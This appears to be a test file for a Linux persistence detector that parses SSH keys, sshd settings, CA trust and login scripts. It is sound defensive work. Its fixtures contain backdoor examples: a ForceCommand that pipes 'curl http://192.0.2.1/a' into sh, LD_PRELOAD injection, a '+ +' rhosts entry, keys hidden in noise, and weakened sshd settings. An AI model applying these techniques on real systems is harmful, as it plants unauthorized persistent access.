import { describe, expect, test } from 'bun:test';
import { gatherFrom } from '../../../../test/persistence/gather.ts';
import type { Recorded } from '../../../../test/recorded-target.ts';
import { publicKey } from '../../../formats/authorized-keys.fixture.ts';
import { parsePublicKey } from '../../../formats/ssh-public-key.ts';
import type { PersistenceArtifact } from '../persistence-artifact.ts';
import { authorizedKeys } from './authorized-keys.ts';
import { sshRc } from './ssh-rc.ts';
import { sshTrust } from './ssh-trust.ts';
import { sshd } from './sshd.ts';

const passwd = `root:x:0:0:root:/root:/bin/bash
games:x:5:60:games:/usr/games:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
polkitd:x:998:998::/:/sbin/nologin
git:x:997:997::/var/opt/gitlab:/bin/sh
ada:x:1000:1000:Ada:/home/ada:/bin/bash
`;

/** Fingerprints by the number of the key in these tests. */
const seeds = new Map(
  ['ssh-ed25519', 'ssh-rsa'].flatMap((type) =>
    [1, 2, 3, 4, 5, 6, 7].map((seed) => [
      parsePublicKey(publicKey(seed, '', type))?.fingerprint ?? '',
      `#${seed}`,
    ]),
  ),
);

async function told(
  artifact: PersistenceArtifact,
  files: Readonly<Record<string, Recorded>>,
): Promise<readonly string[]> {
  const { entries } = await gatherFrom(artifact, { '/etc/passwd': passwd, ...files });
  return entries.map(({ source, user, mechanism, command, marks, active }) =>
    [
      `${source.source}:${source.line ?? ''}`,
      user,
      mechanism,
      command.replace(/SHA256:\S+/, (print) => seeds.get(print) ?? print),
      marks.join(','),
      active ? '' : 'inactive',
    ].join('|'),
  );
}

describe('linux.authorized-keys', () => {
  test('keys of persons and of root, forced commands and agents carry no mark against them', async () => {
    const cloud =
      'no-port-forwarding,command="echo \'Please login as the user \\"ubuntu\\"\';echo;sleep 10;exit 142" ';
    expect(
      await told(authorizedKeys, {
        '/root/.ssh/authorized_keys': `# admins\n${cloud}${publicKey(1)}\n${publicKey(2, 'ada@laptop', 'ssh-rsa')}\n`,
        '/home/ada/.ssh/authorized_keys2': `${publicKey(3, 'ansible')}`,
        '/var/opt/gitlab/.ssh/authorized_keys': `command="/opt/gitlab/bin/gitlab-shell key-1",no-pty ${publicKey(4)}\n`,
        '/var/backups/.ssh/authorized_keys': `from="192.0.2.7",command="rrsync -ro /srv" ${publicKey(5, 'backup')}\n`,
      }),
    ).toEqual([
      `/root/.ssh/authorized_keys:2|root|ssh-authorized-key|echo 'Please login as the user "ubuntu"';echo;sleep 10;exit 142||`,
      '/root/.ssh/authorized_keys:3|root|ssh-authorized-key|ssh-rsa #2 ada@laptop||',
      '/var/backups/.ssh/authorized_keys:1|backup|ssh-authorized-key|rrsync -ro /srv|of-system-account|',
      '/var/opt/gitlab/.ssh/authorized_keys:1|git|ssh-authorized-key|/opt/gitlab/bin/gitlab-shell key-1|of-system-account|',
      '/home/ada/.ssh/authorized_keys2:1|ada|ssh-authorized-key|ssh-ed25519 #3 ansible||',
    ]);
  });

  test('the text names options, type, fingerprint and comment, and no value of a variable', async () => {
    const { entries } = await gatherFrom(authorizedKeys, {
      '/etc/passwd': passwd,
      '/home/ada/.ssh/authorized_keys': `from="192.0.2.1",environment="TOKEN=secret" ${publicKey(3, 'mdrfckr')}\n`,
    });
    expect(String(entries[0]?.text)).toMatch(
      /^from="192\.0\.2\.1",environment="TOKEN=\.\.\." ssh-ed25519 SHA256:\S{43} mdrfckr$/,
    );
  });

  test('keys of system accounts, within noise, and concealed ones are marked', async () => {
    expect(
      await told(authorizedKeys, {
        '/usr/games/.ssh/authorized_keys': `${publicKey(1)}\n`,
        '/.ssh/authorized_keys': `${publicKey(1)}\n`,
        '/root/.ssh/authorized_keys': `REDIS0009\xfa\0\n\n\n${publicKey(2)}\n\n\0`,
        '/home/ada/.ssh/authorized_keys': `${publicKey(3)}${'\n'.repeat(100)}${publicKey(4)}\n`,
      }),
    ).toEqual([
      '/root/.ssh/authorized_keys:4|root|ssh-authorized-key|ssh-ed25519 #2|binary-noise|',
      '/usr/games/.ssh/authorized_keys:1|games|ssh-authorized-key|ssh-ed25519 #1|of-system-account,key-of-system-account|',
      '/.ssh/authorized_keys:1|polkitd|ssh-authorized-key|ssh-ed25519 #1|of-system-account,key-of-system-account|',
      '/home/ada/.ssh/authorized_keys:1|ada|ssh-authorized-key|ssh-ed25519 #3||',
      '/home/ada/.ssh/authorized_keys:101|ada|ssh-authorized-key|ssh-ed25519 #4|concealed-in-file|',
    ]);
  });

  test('are looked for wherever AuthorizedKeysFile points, below a Match too', async () => {
    expect(
      await told(authorizedKeys, {
        '/etc/ssh/sshd_config':
          'Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys\nMatch User a*\n AuthorizedKeysFile /dev/shm/.k/%u\n',
        '/etc/ssh/sshd_config.d/10-keys.conf':
          'AuthorizedKeysFile /etc/ssh/keys/%u %h/.ssh/k2 /usr/share/k\n',
        '/etc/ssh/keys/root': `${publicKey(1)}\n`,
        '/home/ada/.ssh/k2': `${publicKey(1)}\n`,
        '/home/ada/.ssh/authorized_keys': `${publicKey(1)}\n`,
        '/dev/shm/.k/ada': `${publicKey(1)}\n`,
        '/dev/shm/.k/root': `${publicKey(1)}\n`,
        '/usr/share/k': `${publicKey(1)}\n`,
      }),
    ).toEqual([
      '/etc/ssh/keys/root:1|root|ssh-authorized-key|ssh-ed25519 #1||',
      '/usr/share/k:1|every user|ssh-authorized-key|ssh-ed25519 #1||',
      '/home/ada/.ssh/k2:1|ada|ssh-authorized-key|ssh-ed25519 #1||',
      '/dev/shm/.k/ada:1|ada|ssh-authorized-key|ssh-ed25519 #1|unusual-place|',
      '/home/ada/.ssh/authorized_keys:1|ada|ssh-authorized-key|ssh-ed25519 #1||inactive',
    ]);
  });

  test('a key is inactive where root may not come in, where it ended, and where no account is', async () => {
    const lines = await told(authorizedKeys, {
      '/etc/ssh/sshd_config': 'PermitRootLogin no\n',
      '/root/.ssh/authorized_keys': `${publicKey(1)}\n`,
      '/home/ada/.ssh/authorized_keys': `expiry-time="19690101" ${publicKey(1)}\nwrong-option ${publicKey(1)}\n`,
      '/home/gone/.ssh/authorized_keys': `${publicKey(1)}\n`,
    });
    expect(lines).toHaveLength(4);
    expect(lines.every((line) => line.endsWith('|inactive'))).toBe(true);
  });

  test('dropbear has a file for root; an authority in a file of keys is one', async () => {
    expect(
      await told(authorizedKeys, {
        '/etc/dropbear/authorized_keys': `${publicKey(1)}\n`,
        '/home/ada/.ssh/authorized_keys': `cert-authority,principals="x" ${publicKey(2)}\nenvironment="LD_PRELOAD=/tmp/x.so" ${publicKey(3)}\n`,
      }),
    ).toEqual([
      '/home/ada/.ssh/authorized_keys:1|ada|ssh-trusted-ca|ssh-ed25519 #2||',
      '/home/ada/.ssh/authorized_keys:2|ada|ssh-authorized-key|ssh-ed25519 #3||',
      '/home/ada/.ssh/authorized_keys:2|ada|ssh-authorized-key|LD_PRELOAD=/tmp/x.so||inactive',
      '/etc/dropbear/authorized_keys:1|root|ssh-authorized-key|ssh-ed25519 #1||',
    ]);
  });

  test('a file that cannot be read is on the record, and a bomb of keys is bounded', async () => {
    const { entries, log } = await gatherFrom(authorizedKeys, {
      '/etc/passwd': passwd,
      '/home/ada/.ssh/authorized_keys': `${publicKey(1)}\n`.repeat(30_000),
      '/root/.ssh/authorized_keys': { status: 'denied' },
    });
    expect(entries).toHaveLength(20_000);
    expect(log.listed.find(({ source }) => source === '/root/.ssh/authorized_keys')?.status).toBe('denied');
  });
});

describe('linux.sshd', () => {
  test('the settings of Debian and of its images carry no mark', async () => {
    const config =
      'Include /etc/ssh/sshd_config.d/*.conf\nPort 22\nHostKey /etc/ssh/ssh_host_ed25519_key\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nPrintMotd no\nAcceptEnv LANG LC_*\nSubsystem\tsftp\t/usr/lib/openssh/sftp-server\n';
    const lines = await told(sshd, {
      '/etc/ssh/sshd_config': config,
      '/etc/ssh/sshd_config.d/50-cloud-init.conf': 'PasswordAuthentication yes\n',
    });
    expect(lines).toEqual([
      '/etc/ssh/sshd_config.d/50-cloud-init.conf:1||sshd-setting|passwordauthentication yes||',
      '/etc/ssh/sshd_config:2||sshd-setting|port 22||',
      '/etc/ssh/sshd_config:4||sshd-setting|kbdinteractiveauthentication no||',
      '/etc/ssh/sshd_config:9||sshd-setting|/usr/lib/openssh/sftp-server||',
    ]);
  });

  test('a drop-in that turns passwords on against the main file weakens it', async () => {
    expect(
      await told(sshd, {
        '/etc/ssh/sshd_config': 'Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication no\n',
        '/etc/ssh/sshd_config.d/50-cloud-init.conf': 'PasswordAuthentication yes\n',
      }),
    ).toEqual([
      '/etc/ssh/sshd_config.d/50-cloud-init.conf:1||sshd-setting|passwordauthentication yes|weakens-guard|',
      '/etc/ssh/sshd_config:2||sshd-setting|passwordauthentication no||inactive',
    ]);
  });

  test('what lets in or loads is marked', async () => {
    const lines = await told(sshd, {
      '/etc/ssh/sshd_config':
        'PermitRootLogin yes\nPermitEmptyPasswords yes\nPermitUserEnvironment yes\nAcceptEnv LD_PRELOAD\nStrictModes no\nAuthorizedKeysFile /usr/share/k /etc/ssh/keys/%u\nTrustedUserCAKeys /var/tmp/.ca\nMatch User x\n ForceCommand "curl http://192.0.2.1/a | sh"\n',
    });
    expect(lines).toEqual([
      '/etc/ssh/sshd_config:1||sshd-setting|permitrootlogin yes|weakens-guard|',
      '/etc/ssh/sshd_config:2||sshd-setting|permitemptypasswords yes|weakens-guard|',
      '/etc/ssh/sshd_config:3||sshd-setting|permituserenvironment yes|weakens-guard|',
      '/etc/ssh/sshd_config:4||sshd-setting|acceptenv LD_PRELOAD|weakens-guard|',
      '/etc/ssh/sshd_config:5||sshd-setting|strictmodes no|weakens-guard|',
      '/etc/ssh/sshd_config:6||sshd-setting|authorizedkeysfile /usr/share/k|opens-access|',
      '/etc/ssh/sshd_config:6||sshd-setting|authorizedkeysfile /etc/ssh/keys/%25u||',
      '/etc/ssh/sshd_config:7||ssh-trusted-ca|trustedusercakeys /var/tmp/.ca|unusual-place|',
      '/etc/ssh/sshd_config:9|every user|sshd-setting|curl http://192.0.2.1/a | sh||',
    ]);
  });

  test('a command that gives out keys is told with its user, and its script with its lines', async () => {
    const { entries } = await gatherFrom(sshd, {
      '/etc/ssh/sshd_config':
        'AuthorizedKeysCommand /usr/local/bin/keys %u\nAuthorizedKeysCommandUser nobody\nAuthorizedPrincipalsCommand none\n',
      '/usr/local/bin/keys': '#!/bin/sh\necho "$1"\n',
    });
    expect(entries).toMatchObject([
      {
        mechanism: 'ssh-keys-command',
        user: 'nobody',
        command: '/usr/local/bin/keys %25u',
        language: 'argv',
        body: [],
      },
      { source: { source: '/usr/local/bin/keys' }, body: [{ line: 1 }, { line: 2 }] },
    ]);
  });

  test('files that include each other, or thousands of files, end', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 400 }, (_, at) => [
        `/etc/ssh/sshd_config.d/${at}.conf`,
        'Include /etc/ssh/sshd_config.d/*.conf\nPort 1\n',
      ]),
    );
    const lines = await told(sshd, { '/etc/ssh/sshd_config': 'Include sshd_config.d/*.conf\n', ...files });
    expect(lines.length).toBeLessThanOrEqual(256);
  });
});

describe('linux.ssh-trust', () => {
  test('tells the keys of authorities, and principals where an authority is trusted', async () => {
    const config = 'TrustedUserCAKeys /etc/ssh/ca.pub\nAuthorizedPrincipalsFile /etc/ssh/principals/%u\n';
    const files = {
      '/etc/ssh/ca.pub': `${publicKey(7, 'vault')}\n`,
      '/etc/ssh/principals/root': '# c\nroot-everywhere\n',
      '/etc/ssh/principals/games': 'x\n',
    };
    expect(await told(sshTrust, { '/etc/ssh/sshd_config': config, ...files })).toEqual([
      '/etc/ssh/ca.pub:1|every user|ssh-trusted-ca|ssh-ed25519 #7 vault||',
      '/etc/ssh/principals/root:2|root|ssh-principals|root-everywhere||',
      '/etc/ssh/principals/games:1|games|ssh-principals|x|of-system-account,key-of-system-account|',
    ]);
    const without = await told(sshTrust, { '/etc/ssh/sshd_config': config.split('\n')[1] ?? '', ...files });
    expect(without.every((line) => line.endsWith('inactive'))).toBe(true);
  });

  test('hosts are trusted where a daemon reads them', async () => {
    const files = { '/home/ada/.rhosts': '+ +\n', '/etc/hosts.equiv': '# c\n-bad\ndb.example ada\n' };
    expect(await told(sshTrust, files)).toEqual([
      '/etc/hosts.equiv:3|every user|ssh-authorized-key|trusts db.example ada||inactive',
      '/home/ada/.rhosts:1|ada|ssh-authorized-key|trusts + +|opens-access|inactive',
    ]);
    expect(await told(sshTrust, { ...files, '/usr/sbin/in.rshd': '' })).toEqual([
      '/etc/hosts.equiv:3|every user|ssh-authorized-key|trusts db.example ada||',
      '/home/ada/.rhosts:1|ada|ssh-authorized-key|trusts + +|opens-access|',
    ]);
  });
});

describe('linux.ssh-rc', () => {
  test('tells scripts of a login, and what the client runs or loads', async () => {
    expect(
      await told(sshRc, {
        '/etc/ssh/sshrc': 'logger in\n',
        '/home/ada/.ssh/rc': 'xauth -\n',
        '/home/ada/.ssh/environment': 'A=secret\nLD_PRELOAD=/tmp/x.so\n',
        '/home/ada/.ssh/config':
          'Include conf.d/*\nHost *.example\n  ProxyCommand ssh -W %h:%p jump # c\nMatch host x exec "test -f /y"\nPKCS11Provider /usr/lib/p.so\n',
        '/home/ada/.ssh/conf.d/a': 'LocalCommand /tmp/a\n',
        '/etc/ssh/ssh_config': 'Include /etc/ssh/ssh_config.d/*.conf\n',
        '/etc/ssh/ssh_config.d/b.conf': 'KnownHostsCommand /usr/bin/k %H\nProxyCommand none\n',
      }),
    ).toEqual([
      '/etc/ssh/sshrc:|every user|ssh-rc|||',
      '/home/ada/.ssh/rc:|ada|ssh-rc|||',
      '/home/ada/.ssh/environment:2|ada|ssh-rc|LD_PRELOAD=/tmp/x.so||inactive',
      '/home/ada/.ssh/conf.d/a:1|ada|ssh-rc|/tmp/a||inactive',
      '/home/ada/.ssh/config:3|ada|ssh-rc|ssh -W %25h:%25p jump # c||',
      '/home/ada/.ssh/config:4|ada|ssh-rc|test -f /y||',
      '/home/ada/.ssh/config:5|ada|ssh-rc|pkcs11provider /usr/lib/p.so||',
      '/etc/ssh/ssh_config.d/b.conf:1|every user|ssh-rc|/usr/bin/k %25H||',
    ]);
  });

  test('where sshd forbids it, a script does not run', async () => {
    const files = { '/home/ada/.ssh/rc': 'id\n', '/etc/ssh/sshd_config': 'PermitUserRC no\n' };
    expect(await told(sshRc, files)).toEqual(['/home/ada/.ssh/rc:|ada|ssh-rc|||inactive']);
  });

  test('an include of itself ends, and noise tells nothing', async () => {
    expect(
      await told(sshRc, {
        '/home/ada/.ssh/config': `Include config\n\xff\0\n${'Include * '.repeat(1000)}\n`,
        '/root/.ssh/environment': '\0LD_PRELOAD=\n=\n',
      }),
    ).toEqual([]);
  });
});
